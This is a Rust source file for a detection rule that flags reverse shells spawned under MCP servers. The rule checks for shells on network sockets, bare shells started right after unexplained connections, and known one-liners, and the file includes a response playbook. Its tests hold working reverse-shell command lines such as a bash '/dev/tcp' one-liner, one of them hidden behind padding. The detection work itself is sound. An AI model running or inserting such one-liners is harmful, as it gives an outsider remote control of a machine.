//! `reverse_shell`: a shell whose input or output is the network.

use std::collections::{HashMap, VecDeque};
use std::net::SocketAddr;

use regex::{Regex, RegexSet};
use serde::Deserialize;

use super::ATLAS_VERSION;
use crate::detect::destination::{beyond_host, is_explained};
use crate::detect::programs::{Code, Spawn};
use crate::detect::reason::{cause, circumstances, clip, command_line, evidence, server};
use crate::detect::{
    Action, DetectError, Effect, Finding, Knowledge, Rule, RuleInfo, Severities, data,
};
use crate::event::{Exec, Net, NetOperation};
use crate::record::{Severity, Tags};

/// What it is.
pub static INFO: RuleInfo = RuleInfo {
    id: "reverse_shell",
    title: "Reverse shell below an MCP server",
    severities: Severities::always(Severity::Critical),
    tags: Tags {
        attack: &["T1059.004", "T1071"],
        atlas: &["AML.T0072"],
        owasp_mcp: &["MCP05"],
        owasp_llm: &[],
    },
    atlas_version: ATLAS_VERSION,
    description: "Somebody on the other end of a connection types commands on this machine.",
    trigger: "A shell or an interpreter is executed with a network socket as its stdin or stdout; or a \
        shell that takes its commands from stdin is executed within 10 seconds of its process or the \
        process's parent connecting somewhere unexplained, with pipes or sockets as stdin and stdout; \
        or the command line of any program is one of the usual one-liners \
        (rules/reverse-shells.toml).",
    explained_by: &[
        "nothing, where the socket or the one-liner is seen",
        "for the shell after a connection: a destination the server was given or may use \
         (`allow.egress`)",
    ],
    playbook: "Act now: cut the machine's or container's network, keep the process for a memory image if \
        you can, then kill the server's tree. Take down the address in the evidence. Look at everything \
        the shell's tree executed, read and connected to since: those records stand under the same call. \
        Change every secret the server's user could read, and find the call or the package that \
        brought the command.",
    yields_to: &[],
};

const FILE: &str = "reverse-shells.toml";
const TEXT: &str = include_str!("../../../../rules/reverse-shells.toml");

/// How long after a connection a shell is taken to belong to it, in nanoseconds.
const AFTER_CONNECT: u64 = 10_000_000_000;
/// Most processes whose last connection is remembered; the oldest is forgotten.
const REMEMBERED: usize = 1024;
/// Bytes at either end of a command line in which one-liners are looked for. The kernel side cuts
/// argument vectors at 32 KiB, so all of one is seen.
const LOOKED_AT: usize = 32 * 1024;

/// A connection of a process.
#[derive(Clone, Copy, Debug)]
struct Connection {
    /// When its process began, and when it was made, nanoseconds of `CLOCK_BOOTTIME`.
    process_began: u64,
    time: u64,
    endpoint: SocketAddr,
}

/// The last connection of each process, by pid.
#[derive(Debug, Default)]
struct Connections {
    by_pid: HashMap<u32, Connection>,
    /// In the order they were made. A pid stands here once for each connection that is remembered or
    /// has been replaced since.
    order: VecDeque<(u32, u64)>,
}

impl Connections {
    fn remember(&mut self, pid: u32, connection: Connection) {
        self.by_pid.insert(pid, connection);
        self.order.push_back((pid, connection.time));
        while self.order.len() > REMEMBERED {
            let Some((pid, time)) = self.order.pop_front() else { break };
            if self.by_pid.get(&pid).is_some_and(|kept| kept.time == time) {
                self.by_pid.remove(&pid);
            }
        }
    }

    /// The connection that the process, or its parent before the process began, made just before `time`.
    fn just_before(&self, effect: &Effect<'_>) -> Option<Connection> {
        let process = effect.process;
        let own = self
            .by_pid
            .get(&process.pid)
            .filter(|connection| connection.process_began == effect.began);
        let of_parent = self
            .by_pid
            .get(&process.ppid)
            .filter(|connection| connection.process_began <= effect.began);
        own.or(of_parent)
            .filter(|connection| effect.time.saturating_sub(connection.time) <= AFTER_CONNECT)
            .copied()
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Tables {
    pattern: Vec<Pattern>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Pattern {
    name: String,
    title: String,
    all: Vec<String>,
    #[cfg_attr(not(test), expect(dead_code, reason = "the examples are for the test of the data"))]
    examples: Vec<String>,
}

/// The one-liners.
#[derive(Debug)]
struct OneLiners {
    patterns: Vec<Pattern>,
    /// The first expression of each pattern.
    first: RegexSet,
    /// The other expressions of each pattern.
    others: Vec<Vec<Regex>>,
}

impl OneLiners {
    fn new() -> Result<Self, DetectError> {
        let broken = |message: String| DetectError::Data { file: FILE, message };
        let Tables { pattern: patterns } = data(FILE, TEXT)?;
        if patterns.is_empty() || patterns.iter().any(|pattern| pattern.all.is_empty()) {
            return Err(broken("no patterns, or one without expressions".into()));
        }
        let first = RegexSet::new(patterns.iter().filter_map(|pattern| pattern.all.first()))
            .map_err(|error| broken(error.to_string()))?;
        let others = patterns
            .iter()
            .map(|pattern| pattern.all.iter().skip(1).map(|text| Regex::new(text)).collect())
            .collect::<Result<_, regex::Error>>()
            .map_err(|error| broken(error.to_string()))?;
        Ok(Self { patterns, first, others })
    }

    fn find(&self, line: &str) -> Option<&Pattern> {
        self.first.matches(line).into_iter().find_map(|number| {
            let others = self.others.get(number)?;
            others.iter().all(|regex| regex.is_match(line)).then(|| self.patterns.get(number))?
        })
    }
}

/// The rule.
struct ReverseShell {
    one_liners: OneLiners,
    connections: Connections,
}

/// Makes the rule.
pub fn build(_knowledge: &Knowledge) -> Result<Box<dyn Rule>, DetectError> {
    Ok(Box::new(ReverseShell {
        one_liners: OneLiners::new()?,
        connections: Connections::default(),
    }))
}

impl Rule for ReverseShell {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&mut self, effect: &Effect<'_>, knowledge: &mut Knowledge) -> Option<Finding> {
        match effect.action {
            Action::Net(net) => {
                self.note(effect, net);
                None
            }
            Action::Exec(exec) => self.check_exec(effect, exec, knowledge),
            _ => None,
        }
    }
}

impl ReverseShell {
    /// Remembers connections that could be the other end of a shell: unlike egress, to loopback too.
    fn note(&mut self, effect: &Effect<'_>, net: &Net) {
        let refused = matches!(net.result, Some(Err(error)) if error != libc::EINPROGRESS);
        let datagram = i32::from(net.socket_type) == libc::SOCK_DGRAM;
        let Some(endpoint) = net.endpoint.filter(|_| net.operation == NetOperation::Connect) else {
            return;
        };
        let explained = match beyond_host(net) {
            Some(endpoint) => is_explained(effect, endpoint),
            None => effect.launching,
        };
        if !refused && !datagram && !explained {
            let connection =
                Connection { process_began: effect.began, time: effect.time, endpoint };
            self.connections.remember(effect.process.pid, connection);
        }
    }

    fn check_exec(
        &self,
        effect: &Effect<'_>,
        exec: &Exec,
        knowledge: &Knowledge,
    ) -> Option<Finding> {
        if knowledge.programs.is_looked_at(effect.process, exec) {
            return None;
        }
        let spawn = knowledge.programs.spawned(exec);
        let line = joined(&exec.argv);
        let (what, proof) = if let Some(spawn) = spawn
            && let Some(proof) = network_stdio(exec)
        {
            (format!("started {} on a network connection", spawn.program), proof)
        } else if let Some(pattern) = self.one_liners.find(&line) {
            let proof = evidence("pattern", &pattern.name);
            (format!("executed a command that is {}", pattern.title), proof)
        } else if let Some(spawn) = spawn
            && takes_commands(&spawn)
            && exec.stdin_inode.is_some()
            && exec.stdout_inode.is_some()
            && let Some(connection) = self.connections.just_before(effect)
        {
            let endpoint = connection.endpoint.to_string();
            let what = format!(
                "connected to {endpoint} and then started {} without a command",
                spawn.program
            );
            (what, evidence("address", &endpoint))
        } else {
            return None;
        };
        let severity = INFO.severities.of(effect.attribution.relation)?;
        let mut found = vec![
            evidence("program", &exec.path),
            evidence("argv", &command_line(&exec.argv)),
            proof,
        ];
        circumstances(effect, &mut found);
        Some(Finding {
            rule: INFO.id,
            severity,
            reason: format!("Server {} {what} {}.", server(effect), cause(effect)),
            evidence: found,
            object: exec.path.clone(),
        })
    }
}

/// A shell that is told what to do on its stdin.
fn takes_commands(spawn: &Spawn<'_>) -> bool {
    spawn.shell && spawn.code == Code::Stdin
}

/// The network socket on stdin or stdout.
fn network_stdio(exec: &Exec) -> Option<crate::record::AlertEvidence> {
    let network = |family: Option<u16>| {
        family.is_some_and(|family| {
            matches!(i32::from(family), libc::AF_INET | libc::AF_INET6 | libc::AF_VSOCK)
        })
    };
    let places = match (network(exec.stdin_family), network(exec.stdout_family)) {
        (true, true) => "stdin and stdout",
        (true, false) => "stdin",
        (false, true) => "stdout",
        (false, false) => return None,
    };
    Some(evidence("network_socket", places))
}

/// The command line in one piece: both ends, when it is longer than the kernel side ever gives.
fn joined(argv: &[String]) -> String {
    let mut line = String::new();
    for argument in argv {
        if line.len() > LOOKED_AT {
            break;
        }
        line.push_str(&clip(argument, LOOKED_AT));
        line.push(' ');
    }
    if line.len() > LOOKED_AT
        && let Some(last) = argv.last()
    {
        let start = last.len().saturating_sub(LOOKED_AT);
        let start = (start..=last.len()).find(|&at| last.is_char_boundary(at)).unwrap_or(0);
        line.push_str(last.get(start..).unwrap_or_default());
    }
    line.truncate(line.trim_end().len());
    line
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::tests::{Scene, connect, detector, exec};
    use crate::record::Relation::{Background, Covert, Requested, Startup};
    use crate::record::Time;

    fn family(family: i32) -> Option<u16> {
        u16::try_from(family).ok()
    }

    #[test]
    fn every_example_of_the_data_is_found_by_its_own_pattern() {
        let one_liners = OneLiners::new().unwrap();
        for pattern in &one_liners.patterns {
            assert!(!pattern.examples.is_empty(), "{}", pattern.name);
            for example in &pattern.examples {
                let found = one_liners.find(example).map(|found| found.name.as_str());
                assert_eq!(found, Some(pattern.name.as_str()), "{example}");
            }
        }
    }

    #[test]
    fn one_liners_are_critical_in_every_relation_and_no_second_alert_is_raised() {
        let exec =
            exec("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]);
        for relation in [Requested, Covert, Background, Startup] {
            let found = Scene::new(relation).found(Action::Exec(&exec));
            assert_eq!(found, [("reverse_shell", Severity::Critical)], "{relation:?}");
        }
    }

    #[test]
    fn ordinary_command_lines_are_none() {
        let one_liners = OneLiners::new().unwrap();
        let lines = [
            "sh -c grep -rn /dev/tcp/ /etc",
            "timeout 1 bash -c </dev/tcp/db/5432",
            "bash -c (echo > /dev/tcp/127.0.0.1/5432) >/dev/null 2>&1",
            "nc -z localhost 5432",
            "nc -vz -w 3 example.com 443",
            "sh -c nc -l 8080 | tee log.sh",
            "socat TCP-LISTEN:8080,fork TCP:localhost:80",
            "socat - UNIX-CONNECT:/run/x.sock",
            "python3 -c import socket; s=socket.create_connection(('localhost', 80)); print(s)",
            "python3 -c import socket; s=socket.socket(); s.bind(('',0)); print(s.getsockname()[1])",
            "perl -e print 1",
            "ruby -rsocket -e puts Socket.gethostname",
            "node -e require('net').createServer().listen(0)",
            "node -e require('child_process').execSync('git status')",
            "sh -c mkfifo /tmp/f; cat /tmp/f",
            "git commit -m use nc -e /bin/true instead",
            "rsync -e ssh a b:",
            "telnet example.com 80",
        ];
        for line in lines {
            assert!(one_liners.find(line).is_none(), "{line}");
        }
    }

    #[test]
    fn a_network_socket_as_stdin_is_one_and_a_socketpair_is_not() {
        let mut shell = exec("/usr/bin/dash", &["sh", "-c", "ls"]);
        shell.stdin_inode = Some(1);
        shell.stdout_inode = Some(2);
        shell.stdin_family = family(libc::AF_UNIX);
        shell.stdout_family = family(libc::AF_UNIX);
        let found = Scene::new(Covert).found(Action::Exec(&shell));
        assert_eq!(found, [("shell_spawn", Severity::High)]);
        shell.stdout_family = family(libc::AF_INET6);
        let found = Scene::new(Covert).found(Action::Exec(&shell));
        assert_eq!(found, [("reverse_shell", Severity::Critical)]);
        let mut git = exec("/usr/bin/git", &["git", "upload-pack"]);
        git.stdin_family = family(libc::AF_INET);
        assert_eq!(Scene::new(Covert).found(Action::Exec(&git)), []);
    }

    #[test]
    fn a_bare_shell_on_pipes_right_after_a_connection_is_one() {
        let mut shell = exec("/usr/bin/dash", &["/bin/sh"]);
        shell.stdin_inode = Some(1);
        shell.stdout_inode = Some(2);
        let connection = connect("127.0.0.1:4444");
        let one = [("reverse_shell", Severity::Critical)];
        let none = [("shell_spawn", Severity::High)];
        // The connection's pid, seconds until the shell, the shell's pid and parent, and what is found.
        let table = [
            (100, 1, 101, 100, &one),
            (100, 1, 100, 1, &one),
            (100, 11, 101, 100, &none),
            (100, 1, 102, 99, &none),
        ];
        for (pid, seconds, shell_pid, shell_parent, expected) in table {
            let mut detector = detector();
            let mut scene = Scene::new(Covert);
            scene.process.pid = pid;
            assert_eq!(scene.found_by(&mut detector, Action::Net(&connection)), []);
            scene.time += seconds * 1_000_000_000;
            scene.process.pid = shell_pid;
            scene.process.ppid = shell_parent;
            assert_eq!(scene.found_by(&mut detector, Action::Exec(&shell)), *expected);
        }
    }

    #[test]
    fn a_calendar_that_is_set_meanwhile_hides_no_shell() {
        let mut shell = exec("/usr/bin/dash", &["/bin/sh"]);
        shell.stdin_inode = Some(1);
        shell.stdout_inode = Some(2);
        let connection = connect("127.0.0.1:4444");
        // The shell's pid, how much later its process began than who connected, and whether that was it or its parent.
        for (pid, later, found) in
            [(101, 1, true), (101, -1, false), (100, 0, true), (100, 1, false)]
        {
            let mut detector = detector();
            let mut scene = Scene::new(Covert);
            scene.process.pid = 100;
            scene.process.start_time = Time(3_600_000_000_000);
            assert_eq!(scene.found_by(&mut detector, Action::Net(&connection)), []);
            scene.process.pid = pid;
            scene.process.ppid = if pid == 100 { 1 } else { 100 };
            scene.process.start_time = Time(0);
            scene.began = scene.began.saturating_add_signed(later);
            let all = scene.found_by(&mut detector, Action::Exec(&shell));
            let rule = if found { "reverse_shell" } else { "shell_spawn" };
            assert_eq!(all.first().map(|(rule, _)| *rule), Some(rule), "{pid} {later}");
        }
    }

    #[test]
    fn a_shell_with_a_command_after_a_connection_is_just_a_shell() {
        let mut detector = detector();
        let mut scene = Scene::new(Requested);
        let found = scene.found_by(&mut detector, Action::Net(&connect("203.0.113.7:443")));
        assert_eq!(found, [("unexpected_egress", Severity::Info)]);
        let mut shell = exec("/usr/bin/dash", &["sh", "-c", "ls"]);
        shell.stdin_inode = Some(1);
        shell.stdout_inode = Some(2);
        scene.process.ppid = scene.process.pid;
        scene.process.pid += 1;
        let found = scene.found_by(&mut detector, Action::Exec(&shell));
        assert_eq!(found, [("shell_spawn", Severity::Medium)]);
    }

    #[test]
    fn the_memory_of_connections_is_bounded() {
        let mut connections = Connections::default();
        let endpoint = "203.0.113.7:1".parse().unwrap();
        for number in 0..10_000_u32 {
            let time = u64::from(number);
            let connection = Connection { process_began: 0, time, endpoint };
            connections.remember(number % 3000, connection);
            assert!(connections.by_pid.len() <= REMEMBERED);
            assert!(connections.order.len() <= REMEMBERED);
        }
    }

    #[test]
    fn megabytes_of_arguments_are_read_at_both_ends() {
        let hidden = format!("{};bash -i >& /dev/tcp/203.0.113.7/1 0>&1", "#".repeat(1 << 20));
        let exec = exec("/usr/bin/bash", &["bash", "-c", &hidden]);
        let finding = Scene::new(Covert).findings(Action::Exec(&exec)).remove(0);
        assert_eq!(finding.rule, "reverse_shell");
        let size: usize = finding.evidence.iter().map(|piece| piece.value.len()).sum();
        assert!(size + finding.reason.len() < 32 * 1024);
    }
}
